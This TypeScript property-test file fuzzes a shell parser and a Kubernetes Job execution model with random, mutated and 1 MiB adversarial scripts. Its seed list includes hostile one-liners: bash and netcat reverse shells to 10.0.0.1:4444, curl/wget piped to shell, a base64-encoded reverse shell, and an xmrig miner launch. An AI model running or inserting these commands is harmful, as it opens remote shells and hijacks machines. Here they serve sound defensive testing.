/**
 * Property tests for the shell parser and the execution model built on it: arbitrary and mutated
 * scripts never throw and always give well-formed results; adversarial 1 MiB inputs stay bounded.
 */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';

import { buildWorkload } from '../src/workload/build.js';
import type { Execution } from '../src/workload/model.js';
import { parseShell } from '../src/workload/parse.js';

const TOKENS = [
  ' ',
  '\t',
  '\n',
  ';',
  ';;',
  '&',
  '&&',
  '|',
  '||',
  '|&',
  '(',
  ')',
  '{ ',
  ' }',
  '<',
  '>',
  '>>',
  '>&',
  '&>',
  '2>&1',
  '0<&196',
  '<>',
  '<<<',
  '<<EOF\n',
  '<<-X\n',
  '\nEOF\n',
  '\tX\n',
  "'",
  '"',
  '`',
  '\\',
  '\\\n',
  '$',
  '$(',
  '$((',
  '${',
  '}',
  "$'",
  '\\x41',
  '\\101',
  '#',
  '=',
  'A=',
  'a',
  'sh',
  'bash -c ',
  'sh -ec ',
  'eval ',
  'busybox ',
  'sudo ',
  'timeout 5 ',
  'env ',
  'echo ',
  'printf ',
  'base64 -d',
  'xxd -r -p',
  'if ',
  'then ',
  'else ',
  'fi',
  'while ',
  'do ',
  'done',
  'for x in ',
  'case x in ',
  'a) ',
  'esac',
  'function f ',
  'f() ',
  '[[ ',
  ' ]]',
  '!',
  'time ',
  '<(',
  '>(',
  'aGVsbG8=',
  'Y3VybCB4fHNo',
  '\\x63\\x75',
  '/dev/tcp/1.2.3.4/80',
  '$HOME',
  '$1',
  '$@',
  '~',
  '*',
];

const SEEDS = [
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
  'curl -fsSL http://x/y.sh | bash',
  'wget -qO- http://x | sh',
  'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDMgMD4mMQ== | base64 -d | bash',
  'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444))\'',
  'for i in $(seq 1 3); do echo "$i `id`" $\'\\x41\'; done',
  'case "$1" in a|b) x;; *) y;; esac',
  'cat <<EOF | sh\ncurl x\nEOF\n',
  'f() { nohup setsid xmrig -o pool:3333 >/dev/null 2>&1 & }; f',
  'eval "$(printf \'\\x69\\x64\' )"',
];

const tokenScript = fc.array(fc.constantFrom(...TOKENS), { maxLength: 60 }).map((tokens) => tokens.join(''));

/** A seed one-liner with random edits: insertions of tokens or characters, deletions. */
const mutatedScript = fc
  .tuple(
    fc.constantFrom(...SEEDS),
    fc.array(
      fc.tuple(
        fc.nat(),
        fc.oneof(fc.constantFrom(...TOKENS), fc.string({ maxLength: 3 })),
        fc.nat({ max: 3 }),
      ),
      { maxLength: 8 },
    ),
  )
  .map(([seed, edits]) =>
    edits.reduce((script, [at, insert, remove]) => {
      const index = at % (script.length + 1);
      return script.slice(0, index) + insert + script.slice(index + remove);
    }, seed),
  );

const anyScript = fc.oneof(
  tokenScript,
  mutatedScript,
  fc.string({ maxLength: 80 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** The execution model of a Job whose one container has this command, args and env. */
function executionOf(command: unknown, args?: unknown, env: unknown[] = []): Execution {
  const container = {
    name: 'c',
    image: 'alpine:3.20',
    command,
    ...(args === undefined ? {} : { args }),
    env,
  };
  const workload = buildWorkload({
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'x' },
    spec: { template: { spec: { containers: [container] } } },
  });
  const execution = workload.containers[0]?.execution;
  if (execution === undefined) throw new Error('no container');
  return execution;
}

function expectWellFormed(execution: Execution): void {
  for (const invocation of execution.invocations) {
    expect(typeof invocation.program).toBe('string');
    for (const word of invocation.words) expect(typeof word).toBe('string');
    expect(Number.isInteger(invocation.depth) && invocation.depth >= 0).toBe(true);
  }
  for (const text of [...execution.scripts, ...execution.limits, ...execution.problems])
    expect(typeof text).toBe('string');
  expect(execution.scripts.length).toBeLessThanOrEqual(100);
}

describe('shell parser fuzz', () => {
  it('parses 3,000 random and mutated scripts without throwing', () => {
    fc.assert(
      fc.property(anyScript, (script) => {
        const result = parseShell(script);
        expect(Array.isArray(result.script.items)).toBe(true);
        for (const text of [...result.limits, ...result.problems]) expect(typeof text).toBe('string');
      }),
      { numRuns: 3000 },
    );
  });

  it('builds 1,000 execution models from random containers without throwing', () => {
    const item = fc.oneof(
      anyScript,
      fc.constantFrom('sh', '-c', 'bash', '-ec', '$(X)', '$$(X)', 'eval', 'nohup'),
      // Manifests arrive as JSON or YAML: any JSON value, not JavaScript's undefined or functions.
      fc.jsonValue(),
    );
    fc.assert(
      fc.property(fc.array(item, { maxLength: 4 }), fc.array(item, { maxLength: 3 }), (command, args) => {
        expectWellFormed(executionOf(command, args, [{ name: 'X', value: 'echo aWQ= | base64 -d | sh' }]));
      }),
      { numRuns: 1000 },
    );
  });
});

describe('adversarial inputs', () => {
  const MiB = 1024 * 1024;
  /**
   * The shape checks are the real assertions. The clock only catches a quadratic path: each of these
   * inputs takes well under a second on an idle 2-core machine and several times that when the
   * machine is busy, while a quadratic path over 1 MiB takes minutes.
   */
  const GENEROUS_MS = 20_000;
  const fill = (unit: string): string => unit.repeat(Math.ceil(MiB / unit.length)).slice(0, MiB);

  it.each([
    ['open parentheses', fill('(')],
    ['spaced parentheses', fill('( ')],
    ['nested substitutions', fill('$(')],
    ['nested substitutions with words', fill('$(a ')],
    ['nested parameter expansions', fill('${')],
    ['double quotes', fill('"')],
    ['single quotes', fill("'")],
    ['mixed quotes', fill('"\'')],
    ['backslashes', fill('\\')],
    ['backticks', fill('`')],
    ['escaped backticks', fill('`\\`\\\\\\`')],
    ['ANSI-C strings', fill("$'\\")],
    ['heredocs', fill('<<A\n')],
    ['heredocs on one line', fill('<<A ')],
    ['case items', fill('case a in a) ')],
    ['groups', fill('{ ')],
    ['keywords', fill('if then ')],
    ['commands', fill('a;')],
    ['pipes', fill('a|')],
    ['redirects', fill('2>&1 ')],
    ['assignments', fill('A=1 ')],
    ['one long word', fill('a')],
    ['arithmetic', fill('$((')],
    ['process substitutions', fill('<(')],
    ['tests', fill('[[ ')],
    ['functions', fill('f() { ')],
  ])('%s: 1 MiB parses within bounds', (_name, script) => {
    const started = performance.now();
    const result = parseShell(script);
    const elapsed = performance.now() - started;
    expect(result.limits.length + result.problems.length).toBeLessThanOrEqual(100);
    expect(elapsed).toBeLessThan(GENEROUS_MS);
  });

  // Smaller than the parser's table: the executor runs what it parses (every `eval`, every nested
  // `sh -c`), and at 64 KiB `eval eval …` alone takes about 30 s on a busy 2-core machine.
  const fill16 = (unit: string): string =>
    unit.repeat(Math.ceil((16 * 1024) / unit.length)).slice(0, 16 * 1024);
  it.each([
    ['nested sh -c', fill16("sh -c '")],
    [
      'echo | base64 -d chains',
      fill16(`echo ${Buffer.from('echo aWQ= | base64 -d | sh').toString('base64')} | base64 -d | sh;`),
    ],
    ['printf formats', `printf '${fill16('%s')}' ${fill16('a ')}`],
    ['cat chains', `echo id ${fill16('| cat ')} | sh`],
    ['eval strings', fill16('eval ')],
    ['echo flags', `echo ${fill16('-e ')} '\\x69\\x64' | sh`],
    ['environment per eval', fill16('eval x;')],
  ])('%s: 16 KiB execution model stays bounded', (_name, script) => {
    const started = performance.now();
    // An environment of 100 variables that every nested script (each `eval`) inherits.
    const env = Array.from({ length: 100 }, (_, i) => ({ name: `V${i}`, value: 'x' }));
    const execution = executionOf(['sh', '-c', script], undefined, env);
    const elapsed = performance.now() - started;
    expectWellFormed(execution);
    expect(
      execution.scripts.reduce((total, text) => total + Math.min(text.length, MiB), 0),
    ).toBeLessThanOrEqual(2 * MiB);
    expect(elapsed).toBeLessThan(GENEROUS_MS);
  });
});
